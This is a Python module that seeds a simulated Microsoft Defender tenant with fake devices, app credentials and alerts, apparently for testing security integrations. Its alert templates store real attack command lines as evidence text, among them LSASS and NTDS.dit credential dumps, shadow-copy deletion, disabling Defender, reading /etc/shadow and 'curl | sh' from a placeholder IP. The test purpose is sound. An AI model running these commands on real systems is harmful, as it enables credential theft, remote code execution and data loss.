"""Seed data: one simulated tenant, its app registrations, its devices and the alerts raised on them.

Everything is drawn from a `random.Random(seed)`, so the same seed gives the same tenant, credentials, machines, alert
ids and titles; times are offsets from the moment the data is built, so alerts always fall in the last 30 days.
The alerts on the bulk machine come from a second stream, so asking for more of them leaves the rest unchanged.
"""

import functools
import hashlib
import random
import re
import string
import uuid
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import NameOID

TENANT_DOMAIN = "contoso-sim.onmicrosoft.com"
TENANT_NAME = "Contoso (simulated)"
DOMAIN = "corp.contoso.com"
NETBIOS_DOMAIN = "CONTOSO"
BULK_MACHINE = "bench-bulk-01.corp.contoso.com"

# The alerts that a breach-and-attack simulation typically raises, per platform:
# (title, category, detection source, severity, MITRE techniques, threat family, threat name, process or file).
WINDOWS_ALERTS = [
    (
        "Suspicious access to LSASS service",
        "CredentialAccess",
        "WindowsDefenderAtp",
        "High",
        ["T1003.001"],
        None,
        None,
        (
            "rundll32.exe",
            r"C:\Windows\System32",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\lsass.dmp full",
        ),
    ),
    (
        "'Mimikatz' credential theft tool",
        "CredentialAccess",
        "WindowsDefenderAv",
        "High",
        ["T1003.001"],
        "Mimikatz",
        "HackTool:Win32/Mimikatz.D",
        ("mimikatz.exe", r"C:\Users\Public\Downloads", None),
    ),
    (
        "Suspicious PowerShell command line",
        "Execution",
        "WindowsDefenderAtp",
        "Medium",
        ["T1059.001", "T1027"],
        None,
        None,
        (
            "powershell.exe",
            r"C:\Windows\System32\WindowsPowerShell\v1.0",
            "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        ),
    ),
    (
        "Anomaly detected in ASEP registry",
        "Persistence",
        "WindowsDefenderAtp",
        "Medium",
        ["T1547.001"],
        None,
        None,
        (
            "reg.exe",
            r"C:\Windows\System32",
            r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d C:\Users\Public\upd.exe /f",
        ),
    ),
    (
        "Suspicious Task Scheduler activity",
        "Persistence",
        "WindowsDefenderAtp",
        "Medium",
        ["T1053.005"],
        None,
        None,
        (
            "schtasks.exe",
            r"C:\Windows\System32",
            r'schtasks.exe /Create /SC ONLOGON /TN "OneDrive Sync" /TR C:\Users\Public\sync.exe',
        ),
    ),
    (
        "Attempt to turn off Microsoft Defender Antivirus protection",
        "DefenseEvasion",
        "WindowsDefenderAtp",
        "High",
        ["T1562.001"],
        None,
        None,
        (
            "powershell.exe",
            r"C:\Windows\System32\WindowsPowerShell\v1.0",
            "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
        ),
    ),
    (
        "Suspicious process injection observed",
        "DefenseEvasion",
        "WindowsDefenderAtp",
        "Medium",
        ["T1055", "T1055.012"],
        None,
        None,
        ("notepad.exe", r"C:\Windows\System32", "notepad.exe"),
    ),
    (
        "Suspicious remote activity",
        "LateralMovement",
        "WindowsDefenderAtp",
        "Medium",
        ["T1047", "T1021.006"],
        None,
        None,
        (
            "wmic.exe",
            r"C:\Windows\System32\wbem",
            'wmic.exe /node:"10.20.1.10" process call create "cmd.exe /c whoami"',
        ),
    ),
    (
        "PsExec launched a command on a remote device",
        "LateralMovement",
        "WindowsDefenderAtp",
        "Low",
        ["T1569.002", "T1021.002"],
        None,
        None,
        ("PsExec.exe", r"C:\Tools", r"PsExec.exe \\dc-01 -s cmd.exe /c ipconfig"),
    ),
    (
        "Suspicious sequence of exploration activities",
        "Discovery",
        "WindowsDefenderAtp",
        "Low",
        ["T1087.002", "T1069.002", "T1016"],
        None,
        None,
        ("net.exe", r"C:\Windows\System32", 'net.exe group "Domain Admins" /domain'),
    ),
    (
        "'EICAR_Test_File' malware was detected",
        "Malware",
        "WindowsDefenderAv",
        "Informational",
        [],
        "EICAR_Test_File",
        "Virus:DOS/EICAR_Test_File",
        ("eicar.com", r"C:\Users\Public\Downloads", None),
    ),
    (
        "Ransomware behavior detected in the file system",
        "Ransomware",
        "WindowsDefenderAtp",
        "High",
        ["T1486", "T1490"],
        None,
        None,
        ("vssadmin.exe", r"C:\Windows\System32", "vssadmin.exe Delete Shadows /All /Quiet"),
    ),
    (
        "Suspicious file downloaded by certutil",
        "CommandAndControl",
        "WindowsDefenderAtp",
        "Medium",
        ["T1105", "T1140"],
        None,
        None,
        (
            "certutil.exe",
            r"C:\Windows\System32",
            "certutil.exe -urlcache -split -f http://203.0.113.66/p.bin C:\\Users\\Public\\p.bin",
        ),
    ),
    (
        "Simulation marker file written to a public folder",
        "SuspiciousActivity",
        "CustomDetection",
        "Low",
        ["T1105"],
        None,
        None,
        ("marker.txt", r"C:\Users\Public", None),
    ),
    (
        "Automated investigation started manually",
        "SuspiciousActivity",
        "AutomatedInvestigation",
        "Informational",
        [],
        None,
        None,
        None,
    ),
    ("Suspicious activity", "SuspiciousActivity", "WindowsDefenderAtp", "UnSpecified", [], None, None, None),
    (
        "Suspicious credential dump from NTDS.dit",
        "CredentialAccess",
        "WindowsDefenderAtp",
        "High",
        ["T1003.003"],
        None,
        None,
        ("ntdsutil.exe", r"C:\Windows\System32", 'ntdsutil.exe "ac i ntds" ifm "create full C:\\Temp\\ntds" q q'),
    ),
]
LINUX_ALERTS = [
    (
        "Suspicious shell script launched",
        "Execution",
        "WindowsDefenderAtp",
        "Medium",
        ["T1059.004"],
        None,
        None,
        ("bash", "/usr/bin", "bash -c 'curl -s http://203.0.113.66/i.sh | sh'"),
    ),
    (
        "Suspicious crontab modification",
        "Persistence",
        "WindowsDefenderAtp",
        "Medium",
        ["T1053.003"],
        None,
        None,
        ("crontab", "/usr/bin", "crontab /tmp/.cron"),
    ),
    (
        "Suspicious system discovery activity",
        "Discovery",
        "WindowsDefenderAtp",
        "Low",
        ["T1082", "T1033"],
        None,
        None,
        ("uname", "/usr/bin", "uname -a"),
    ),
    (
        "Possible credential access via /etc/shadow",
        "CredentialAccess",
        "WindowsDefenderAtp",
        "High",
        ["T1003.008"],
        None,
        None,
        ("cat", "/usr/bin", "cat /etc/shadow"),
    ),
    (
        "'Mirai' malware was prevented",
        "Malware",
        "WindowsDefenderAv",
        "High",
        [],
        "Mirai",
        "Backdoor:Linux/Mirai.B",
        ("mirai.arm7", "/tmp", None),  # noqa: S108 - evidence text, not a file this code opens
    ),
    ("Suspicious activity", "SuspiciousActivity", "WindowsDefenderAtp", "UnSpecified", [], None, None, None),
]
MACOS_ALERTS = [
    (
        "Suspicious launchd plist created",
        "Persistence",
        "WindowsDefenderAtp",
        "Medium",
        ["T1543.001"],
        None,
        None,
        ("com.apple.updates.plist", "/Library/LaunchAgents", None),
    ),
    (
        "Suspicious osascript execution",
        "Execution",
        "WindowsDefenderAtp",
        "Medium",
        ["T1059.002"],
        None,
        None,
        ("osascript", "/usr/bin", "osascript -e 'do shell script \"id\"'"),
    ),
    (
        "Keychain access by the security tool",
        "CredentialAccess",
        "WindowsDefenderAtp",
        "High",
        ["T1555.001"],
        None,
        None,
        ("security", "/usr/bin", "security dump-keychain -d login.keychain"),
    ),
    (
        "'Pirrit' adware was detected",
        "UnwantedSoftware",
        "WindowsDefenderAv",
        "Low",
        [],
        "Pirrit",
        "Adware:MacOS/Pirrit",
        ("Pirrit.app", "/Applications", None),
    ),
    (
        "Suspicious system information discovery",
        "Discovery",
        "WindowsDefenderAtp",
        "Informational",
        ["T1082"],
        None,
        None,
        ("system_profiler", "/usr/sbin", "system_profiler SPHardwareDataType"),
    ),
]
ALERTS_BY_PLATFORM = {"windows": WINDOWS_ALERTS, "linux": LINUX_ALERTS, "macos": MACOS_ALERTS}
PLATFORMS = {"Linux": "linux", "macOS": "macos"}
URL_IN_TEXT = re.compile(r"https?://[^\s'\"]+")
IP_IN_TEXT = re.compile(r"\b(?:\d{1,3}\.){3}\d{1,3}\b")  # osPlatform -> platform; the rest are Windows

# The process that started a suspicious one, per platform: a breach-and-attack agent running its step.
PARENT_PROCESSES = {
    "windows": ("cmd.exe", r"C:\Windows\System32", r'cmd.exe /c "C:\Program Files\BAS Agent\run-step.cmd"'),
    "linux": ("bash", "/usr/bin", "bash /opt/bas-agent/run-step.sh"),
    "macos": ("zsh", "/bin", "zsh /opt/bas-agent/run-step.sh"),
}
# E-mail alerts of Microsoft Defender for Office 365, which Graph serves beside Defender for Endpoint's: (title,
# category, severity, MITRE techniques, sender domain, URL).
EMAIL_ALERTS = [
    (
        "Email messages containing malicious URL removed after delivery",
        "InitialAccess",
        "Medium",
        ["T1566.002"],
        "billing.example.com",
        "http://phish.example.com/login",
    ),
    (
        "A potentially malicious URL click was detected",
        "InitialAccess",
        "High",
        ["T1566.002", "T1204.001"],
        "hr-portal.example.net",
        "http://hr-portal.example.net/benefits",
    ),
    (
        "Email reported by user as malware or phish",
        "InitialAccess",
        "Informational",
        [],
        "newsletter.example.org",
        "http://newsletter.example.org/unsubscribe",
    ),
]

# (computerDnsName, platform, osPlatform, version, osBuild, alerts, first alert within the last 2 hours, tags).
# ws-fin-07 is what an actor's owner types; Defender holds the FQDN. ws-fin-071 shares its prefix, so a sloppy
# startswith match picks up the wrong device. The lobby kiosk was renamed after onboarding, so only an alternate
# hostname finds it. Linux devices often report a bare host name.
MACHINES = [
    ("ws-fin-07.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 17, True, ["Finance"]),
    ("ws-fin-071.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 3, False, ["Finance"]),
    ("lobby-kiosk-renamed.corp.contoso.com", "windows", "Windows10", "22H2", 19045, 6, True, ["Kiosk"]),
    ("ws-eng-12.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 10, False, ["Engineering"]),
    ("ws-hr-03.corp.contoso.com", "windows", "Windows10", "22H2", 19045, 8, False, []),
    ("dc-01.corp.contoso.com", "windows", "WindowsServer2022", "Other", 20348, 12, True, ["Tier0"]),
    ("sql-prod-02.corp.contoso.com", "windows", "WindowsServer2019", "Other", 17763, 6, False, ["Production"]),
    ("web-prod-02.corp.contoso.com", "linux", "Linux", "Ubuntu 22.04", None, 7, True, ["Production"]),
    ("build-lnx-05", "linux", "Linux", "RHEL 9.3", None, 5, False, []),
    ("mac-design-11.corp.contoso.com", "macos", "macOS", "14.5", None, 6, False, ["Design"]),
    ("mbp-hr-04.corp.contoso.com", "macos", "macOS", "13.6", None, 4, False, []),
    ("ws-quiet-01.corp.contoso.com", "windows", "Windows11", "23H2", 22631, 0, False, []),
    (BULK_MACHINE, "windows", "Windows11", "23H2", 22631, 0, False, ["Benchmark"]),
]

# (actor hostname as typed in the product, alternate hostname or ""), all with alerts.
ACTOR_HOSTNAMES = [
    ("ws-fin-07", ""),
    ("kiosk-lobby-01", "lobby-kiosk-renamed.corp.contoso.com"),
    ("dc-01.corp.contoso.com", ""),
    ("web-prod-02", ""),
    ("mac-design-11", ""),
]

USERS = ["jdoe", "asmith", "mgarcia", "kchen", "svc-backup", "lobby"]
ANALYSTS = ["secops@contoso-sim.onmicrosoft.com", "analyst.tier2@contoso-sim.onmicrosoft.com"]
RESOLUTIONS = [
    ("TruePositive", "SecurityTesting"),
    ("InformationalExpectedActivity", "SecurityTesting"),
    ("FalsePositive", "NotMalicious"),
    ("TruePositive", "Malware"),
]


@dataclass(frozen=True)
class AppCredential:
    """An app registration with one client secret, and perhaps a certificate (its private key and certificate as one
    PEM, as a user would paste it). Neither shows in a repr, a log or a traceback."""

    name: str
    client_id: str
    client_secret: str = field(repr=False)
    secret_id: str
    roles: tuple
    secret_expired: bool = False
    certificate_pem: str = field(default="", repr=False)

    @property
    def registered_certificates(self):
        """The certificates uploaded to the app registration: only their public part, as Entra ID keeps them."""
        if not self.certificate_pem:
            return []
        start = self.certificate_pem.index("-----BEGIN CERTIFICATE-----")
        return x509.load_pem_x509_certificates(self.certificate_pem[start:].encode())


@functools.lru_cache(maxsize=1)
def _demo_certificate_pem():
    # An RSA key takes a moment to make: one per process serves every simulator it starts.
    return make_certificate_pem("Defender console (simulated)")


def make_certificate_pem(common_name, days=365, now=None):
    """A self-signed RSA certificate and its private key, as one PEM (key first), like `openssl req -x509`."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    now = now or datetime.now(UTC)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=days))
        .sign(key, hashes.SHA256())
    )
    key_pem = key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()).decode("ascii")
    return key_pem + certificate.public_bytes(Encoding.PEM).decode("ascii")


def _guid(rng):
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _hex(rng, digits):
    return f"{rng.getrandbits(digits * 4):0{digits}x}"


def _secret(rng):
    alphabet = string.ascii_letters + string.digits
    return "sim~" + "".join(rng.choice(alphabet) for _ in range(36))


def _alert_id(rng):
    return f"da{rng.randint(10**17, 10**18 - 1)}_{rng.randint(-(2**31), 2**31 - 1)}"


def _network_evidence(command_line, created):
    """The IP address and URL a command line reaches, as Ip and Url evidence."""
    found = []
    url = URL_IN_TEXT.search(command_line)
    address = IP_IN_TEXT.search(command_line)
    if address:
        found.append({"entityType": "Ip", "evidenceCreationTime": created, "ipAddress": address[0]})
    if url:
        found.append({"entityType": "Url", "evidenceCreationTime": created, "url": url[0]})
    return found


def _digest(algorithm, *parts):
    return hashlib.new(algorithm, "|".join(parts).encode()).hexdigest()


class UnknownMachine(LookupError):
    """A procedure or a seed asked for a machine the tenant does not have."""


class SeedData:
    def __init__(self, seed=1, alerts_on_bulk_machine=0, now=None):
        self.seed = seed
        self.now = (now or datetime.now(UTC)).replace(microsecond=0)
        rng = random.Random(seed)
        self.tenant_id = _guid(rng)
        self.tenant_domain = TENANT_DOMAIN
        self.tenant_name = TENANT_NAME
        every_role = (
            "Alert.Read.All", "Machine.Read.All", "SecurityAlert.Read.All", "AdvancedQuery.Read.All",
            "ThreatHunting.Read.All",
        )  # fmt: skip
        self.apps = {
            name: AppCredential(name, _guid(rng), _secret(rng), _guid(rng), roles, expired)
            for name, roles, expired in [
                ("app", every_role, False),
                ("app_without_machine_role", ("Alert.Read.All",), False),
                ("app_without_roles", (), False),
                ("app_expired_secret", every_role, True),
            ]
        }
        # An app granted the alert and machine roles but not advanced hunting's, from a stream of its own so that
        # the seed drawn after the other apps stays as it was.
        hunting_rng = random.Random(f"{seed}-app-without-hunting")
        self.apps["app_without_hunting"] = AppCredential(
            "app_without_hunting", _guid(hunting_rng), _secret(hunting_rng), _guid(hunting_rng), every_role[:3], False
        )
        # The demo app also has a certificate registered, for integrations that sign in with one.
        app = self.apps["app"]
        self.apps["app"] = AppCredential(
            app.name,
            app.client_id,
            app.client_secret,
            app.secret_id,
            app.roles,
            app.secret_expired,
            _demo_certificate_pem(),
        )
        self.machines = [self._machine(rng, *spec[:5], spec[7]) for spec in MACHINES]
        # What was added to the alerts later (merged detections, parent processes) comes from a stream of its own, so
        # that the ids, titles and times drawn from the first stay as they were.
        self._later = random.Random(f"{seed}-later")
        self.alerts = []
        for machine, spec in zip(self.machines, MACHINES, strict=True):
            platform, count, recent = spec[1], spec[5], spec[6]
            self.alerts += self._alerts(rng, machine, platform, count, recent)
        bulk = self.machine_by_name(BULK_MACHINE)
        self.alerts += self._alerts(random.Random(f"{seed}-bulk"), bulk, "windows", alerts_on_bulk_machine, False)
        self.alerts.sort(key=lambda alert: (alert["alertCreationTime"], alert["id"]))
        self.email_alerts = self._email_alerts(random.Random(f"{seed}-email"))
        # DeviceProcessEvents rows of the procedures the simulator was told ran (advanced hunting's table).
        self.telemetry = []
        self.alerts_by_machine = {}
        for alert in self.alerts:
            self.alerts_by_machine.setdefault(alert["machineId"], []).append(alert)

    def seed_fleet(self, alerts, machines, hours=12, seed=None):
        """Add ``machines`` Windows machines (fleet-001.corp.contoso.com, ...) carrying ``alerts`` alerts between them,
        round robin, each last updated within the past ``hours``: a tenant's worth for a sweep. Returns the machines'
        names."""
        rng = random.Random(f"{self.seed if seed is None else seed}-fleet-{len(self.machines)}")
        later = random.Random(f"{self.seed}-fleet-later")
        added = []
        for _ in range(machines):
            name = f"fleet-{len(self.machines) + 1:03d}.{DOMAIN}"
            added.append(self._machine(rng, name, "windows", "Windows11", "23H2", 22631, ["Fleet"]))
            self.machines.append(added[-1])
        for index in range(alerts):
            machine = added[index % machines]
            template = WINDOWS_ALERTS[index % len(WINDOWS_ALERTS)]
            created = self.now - timedelta(seconds=round(rng.uniform(600, hours * 3600), 6))
            first_event = created - timedelta(seconds=rng.randint(30, 900))
            last_event = created - timedelta(seconds=rng.randint(1, 29))
            updated = min(created + timedelta(seconds=round(rng.uniform(20, 300), 6)), self.now)
            times = (created, first_event, last_event, updated)
            status = rng.choice(["New", "InProgress", "Resolved"])
            alert = self._alert_record(rng, later, machine, template, times, status, rng.randint(1000, 99999))
            self.alerts.append(alert)
            self.alerts_by_machine.setdefault(machine["id"], []).append(alert)
        self.alerts.sort(key=lambda alert: (alert["alertCreationTime"], alert["id"]))
        return [machine["computerDnsName"] for machine in added]

    def procedure_ran(
        self, machine_name, technique_id, command, started, stopped, response, file_name="", delay=timedelta(0)
    ):
        """An attack procedure ran on the machine, and Defender responded: "prevented" (an antivirus alert whose
        evidence says Blocked or Prevented), "alerted" (an EDR alert, evidence Detected), "detected" (its process
        recorded for advanced hunting, no alert) or "missed" (nothing). Every response but "missed" records the
        process as telemetry.
        The alert names the technique, carries the command as process evidence and is created ``delay`` (at least
        5 seconds) after the procedure stopped. Returns the alert, not yet stored (`add_alert`), or None."""
        if response not in ("prevented", "alerted", "detected", "missed"):
            raise ValueError(f"unknown response {response!r}: prevented, alerted, detected or missed")
        if response == "missed":
            return None
        machine = self.machine_by_name(machine_name)
        rng = random.Random(f"{self.seed}-procedure-{len(self.telemetry)}")  # one per procedure, held or not
        program = file_name or (command.split()[0].rsplit("\\", 1)[-1] if command.split() else "cmd.exe")
        self.telemetry.append(
            {
                "Timestamp": started, "DeviceId": machine["id"], "DeviceName": machine["computerDnsName"].lower(),
                "ActionType": "ProcessCreated", "FileName": program, "FolderPath": rf"C:\Windows\Temp\{program}",
                "SHA1": _digest("sha1", command), "SHA256": _digest("sha256", command),
                "ProcessCommandLine": command, "AccountName": "tester",
                "InitiatingProcessFileName": "basagent.exe", "InitiatingProcessCommandLine": "basagent.exe --run",
            }
        )  # fmt: skip
        if response == "detected":
            return None
        source = "WindowsDefenderAv" if response == "prevented" else "WindowsDefenderAtp"
        title = f"Suspicious activity of {program}" if response == "alerted" else f"'{program}' was blocked"
        template = (
            title,
            "Execution",
            source,
            "High",
            [technique_id],
            None,
            None,
            (program, r"C:\Windows\Temp", command),
        )
        created = stopped + max(delay, timedelta(seconds=5))
        times = (created, started, stopped, created + timedelta(seconds=20))
        return self._alert_record(rng, rng, machine, template, times, "New", rng.randint(1000, 99999))

    def add_alert(self, alert):
        """Store an alert raised after seeding: served from now on, in creation order."""
        self.alerts.append(alert)
        self.alerts.sort(key=lambda item: (item["alertCreationTime"], item["id"]))
        self.alerts_by_machine.setdefault(alert["machineId"], []).append(alert)

    def update_alert(self, alert_id, when):
        """Defender changed the alert (a status, a merged detection): its lastUpdateTime moves to ``when``."""
        alert = next(alert for alert in self.alerts if alert["id"] == alert_id)
        alert["lastUpdateTime"] = when
        return alert

    def machine_by_name(self, name):
        """The machine of that computer name (any case); UnknownMachine when there is none."""
        found = next((m for m in self.machines if m["computerDnsName"].lower() == name.lower()), None)
        if found is None:
            raise UnknownMachine(f"No machine is named {name!r}.")
        return found

    def _machine(self, rng, dns_name, platform, os_platform, version, os_build, tags):
        host_octet = rng.randint(10, 250)
        first_seen = self.now - timedelta(days=rng.randint(90, 700), seconds=rng.randint(0, 86399))
        last_seen = self.now - timedelta(minutes=rng.randint(1, 180))
        agent = {"windows": "10.8760.22621.3880", "linux": "101.24052.0002", "macos": "101.24062.0005"}[platform]
        ip_address = f"10.20.{rng.randint(1, 9)}.{host_octet}"
        mac = _digest("md5", dns_name)[:12].upper()
        return {
            "id": _hex(rng, 40),
            "computerDnsName": dns_name,
            "firstSeen": first_seen,
            "lastSeen": last_seen,
            "osPlatform": os_platform,
            "osVersion": None,
            "osProcessor": "x64",
            "version": version,
            "lastIpAddress": ip_address,
            "lastExternalIpAddress": f"203.0.113.{rng.randint(1, 254)}",
            "agentVersion": agent,
            "osBuild": os_build,
            "healthStatus": "Active",
            "deviceValue": "High" if "Tier0" in tags else "Normal",
            "rbacGroupId": 0,
            "rbacGroupName": None,
            "riskScore": rng.choice(["None", "Low", "Medium", "High"]),
            "exposureLevel": rng.choice(["Low", "Medium", "High"]),
            "isAadJoined": platform == "windows",
            "aadDeviceId": _guid(rng) if platform == "windows" else None,
            "machineTags": list(tags),
            "ipAddresses": [{"ipAddress": ip_address, "macAddress": mac, "operationalStatus": "Up"}],
            "defenderAvStatus": "Updated",
            "onboardingStatus": "Onboarded",
            "osArchitecture": "64-bit",
            "managedBy": "Intune" if platform != "linux" else "Unknown",
            "managedByStatus": "Success" if platform != "linux" else "Unknown",
            "vmMetadata": None,
        }

    def _alerts(self, rng, machine, platform, count, recent):
        pool = ALERTS_BY_PLATFORM[platform]
        picks = []
        while len(picks) < count:
            # Whole shuffled rounds, so every template (and so every severity) shows up on the busiest devices.
            picks += rng.sample(pool, len(pool))
        incidents = [rng.randint(1000, 99999) for _ in range(max(1, count // 3))]
        alerts = []
        for index, template in enumerate(picks[:count]):
            age = rng.uniform(300, 5400) if recent and index == 0 else rng.uniform(7200, 30 * 86400)
            alerts.append(self._alert(rng, machine, template, age, rng.choice(incidents)))
        return alerts

    def _alert(self, rng, machine, template, age_seconds, incident_id):
        title, category, source, severity, techniques, family, threat, artefact = template
        created = self.now - timedelta(seconds=round(age_seconds, 3))
        first_event = created - timedelta(seconds=rng.randint(30, 900))
        last_event = created - timedelta(seconds=rng.randint(1, 29))
        updated = min(created + timedelta(seconds=rng.randint(20, 4 * 3600)), self.now - timedelta(seconds=5))
        status = rng.choices(["New", "InProgress", "Resolved"], weights=[5, 2, 3])[0]
        later = self._later
        if later.random() < 0.35 and age_seconds > 600:
            # Defender merged later detections into the alert: its activity runs on past its creation, and it was
            # updated after its last event.
            last_event = created + timedelta(seconds=round(later.uniform(60, min(6 * 3600, age_seconds - 300)), 3))
            updated = max(updated, min(last_event + timedelta(seconds=later.randint(20, 600)), self.now))
            updated = min(updated, self.now - timedelta(seconds=5))
        times = (created, first_event, last_event, updated)
        return self._alert_record(rng, later, machine, template, times, status, incident_id)

    def _alert_record(self, rng, later, machine, template, times, status, incident_id):
        created, first_event, last_event, updated = times
        title, category, source, severity, techniques, family, threat, artefact = template
        classification = determination = resolved = None
        if status == "Resolved":
            classification, determination = rng.choice(RESOLUTIONS)
            resolved = updated
        assigned = None
        if source == "AutomatedInvestigation":
            assigned = "Automation"
        elif status != "New":
            assigned = rng.choice(ANALYSTS)
        user = rng.choice(USERS)
        alert_id = _alert_id(rng)
        domain = machine["computerDnsName"].partition(".")[2]
        evidence = [
            {
                "entityType": "User",
                "evidenceCreationTime": created,
                "accountName": user,
                "domainName": NETBIOS_DOMAIN,
                "userSid": "S-1-5-21-" + "-".join(str(rng.randint(10**9, 4 * 10**9)) for _ in range(3)),
                "aadUserId": _guid(rng),
                "userPrincipalName": f"{user}@{domain or DOMAIN}",
                "detectionStatus": None,
            }
        ]
        if artefact:
            file_name, file_path, command_line = artefact
            platform = PLATFORMS.get(machine["osPlatform"], "windows")
            parent_name, parent_path, parent_command = PARENT_PROCESSES[platform]
            blocked = source == "WindowsDefenderAv" and later.random() < 0.5
            evidence.append(
                {
                    "entityType": "Process" if command_line else "File",
                    "evidenceCreationTime": created,
                    "sha1": _digest("sha1", file_path, file_name),
                    "sha256": _digest("sha256", file_path, file_name),
                    "fileName": file_name,
                    "filePath": file_path,
                    "processId": rng.randint(400, 20000) if command_line else None,
                    "processCommandLine": command_line,
                    "processCreationTime": first_event if command_line else None,
                    "parentProcessId": rng.randint(400, 20000) if command_line else None,
                    "parentProcessCreationTime": first_event - timedelta(seconds=2) if command_line else None,
                    "parentProcessFileName": parent_name if command_line else None,
                    "parentProcessFilePath": parent_path if command_line else None,
                    "detectionStatus": (
                        "Detected" if source != "WindowsDefenderAv" else "Blocked" if blocked else "Prevented"
                    ),
                }
            )
            if command_line:
                # The agent's step that started it is evidence too (and a detection of its own in the SIEM export).
                child = evidence[-1]
                evidence.append(
                    {
                        "entityType": "Process",
                        "evidenceCreationTime": created,
                        "sha1": _digest("sha1", parent_path, parent_name),
                        "sha256": _digest("sha256", parent_path, parent_name),
                        "fileName": parent_name,
                        "filePath": parent_path,
                        "processId": child["parentProcessId"],
                        "processCommandLine": parent_command,
                        "processCreationTime": child["parentProcessCreationTime"],
                        "parentProcessId": later.randint(400, 20000),
                        "parentProcessCreationTime": child["parentProcessCreationTime"] - timedelta(seconds=30),
                        "parentProcessFileName": "basagent" if platform != "windows" else "basagent.exe",
                        "parentProcessFilePath": "/opt/bas-agent"
                        if platform != "windows"
                        else r"C:\Program Files\BAS Agent",
                        "detectionStatus": "Detected",
                    }
                )
        if artefact and artefact[2]:
            evidence += _network_evidence(artefact[2], created)
        investigation = rng.randint(1, 99999) if source in ("WindowsDefenderAv", "AutomatedInvestigation") else None
        return {
            "id": alert_id,
            "incidentId": incident_id,
            "investigationId": investigation,
            "assignedTo": assigned,
            "severity": severity,
            "status": status,
            "classification": classification,
            "determination": determination,
            "investigationState": "SuccessfullyRemediated" if investigation else "UnsupportedAlertType",
            "detectionSource": source,
            "detectorId": str(uuid.uuid5(uuid.NAMESPACE_URL, f"detector:{title}")),
            "category": category,
            "threatFamilyName": family,
            "threatName": threat,
            "title": title,
            "description": f"{title} on {machine['computerDnsName']}. Review the process tree and the evidence.",
            "alertCreationTime": created,
            "firstEventTime": first_event,
            "lastEventTime": last_event,
            "lastUpdateTime": updated,
            "resolvedTime": resolved,
            "machineId": machine["id"],
            "computerDnsName": machine["computerDnsName"],
            "rbacGroupName": None,
            "aadTenantId": self.tenant_id,
            "mitreTechniques": list(techniques),
            "relatedUser": {"userName": user, "domainName": NETBIOS_DOMAIN},
            "loggedOnUsers": [{"accountName": user, "domainName": NETBIOS_DOMAIN}],
            "comments": [],
            "evidence": evidence,
        }

    def _email_alerts(self, rng):
        """Defender for Office 365's alerts about mail to the tenant's users: on no machine, so Graph alone has them."""
        alerts = []
        for title, category, severity, techniques, sender_domain, url in EMAIL_ALERTS:
            created = self.now - timedelta(seconds=round(rng.uniform(1800, 20 * 86400), 3))
            user = rng.choice(USERS)
            received = created - timedelta(seconds=rng.randint(60, 900))
            alerts.append(
                {
                    "id": "fa" + _guid(rng),
                    "serviceSource": "microsoftDefenderForOffice365",
                    "incidentId": rng.randint(1000, 99999),
                    "assignedTo": None,
                    "severity": severity,
                    "status": "New",
                    "classification": None,
                    "determination": None,
                    "detectionSource": "OfficeATP",
                    "detectorId": str(uuid.uuid5(uuid.NAMESPACE_URL, f"detector:{title}")),
                    "category": category,
                    "threatFamilyName": None,
                    "threatName": None,
                    "title": title,
                    "description": f"{title}. Review the message and its recipients.",
                    "alertCreationTime": created,
                    "firstEventTime": received,
                    "lastEventTime": received,
                    "lastUpdateTime": created + timedelta(seconds=rng.randint(20, 600)),
                    "resolvedTime": None,
                    "mitreTechniques": list(techniques),
                    "recipient": f"{user}@{TENANT_DOMAIN}",
                    "sender": f"billing@{sender_domain}",
                    "senderIp": f"198.51.100.{rng.randint(1, 254)}",
                    "url": url,
                    "received": received,
                    "networkMessageId": _guid(rng),
                }
            )
        return alerts


# How many fractional digits Microsoft's timestamps carry varies (…:10Z, …:05.5Z, …:57.7220239Z, in one sample): the
# simulator writes seven and drops trailing zeros, with a hundred-nanosecond digit on some values.
TICKS = "0000317"


def iso(value):
    """Microsoft's timestamp form: UTC, up to seven fractional digits (none when they are all zero), a Z."""
    if not isinstance(value, datetime):
        return value
    value = value.astimezone(UTC)
    tick = TICKS[(value.second + value.minute) % len(TICKS)]
    fraction = f"{value.microsecond:06d}{tick}".rstrip("0")
    return f"{value:%Y-%m-%dT%H:%M:%S}" + (f".{fraction}" if fraction else "") + "Z"


def jsonable(value):
    """A seed record (datetimes inside) as the JSON-ready value the APIs send."""
    if isinstance(value, dict):
        return {key: jsonable(item) for key, item in value.items()}
    if isinstance(value, list):
        return [jsonable(item) for item in value]
    return iso(value)
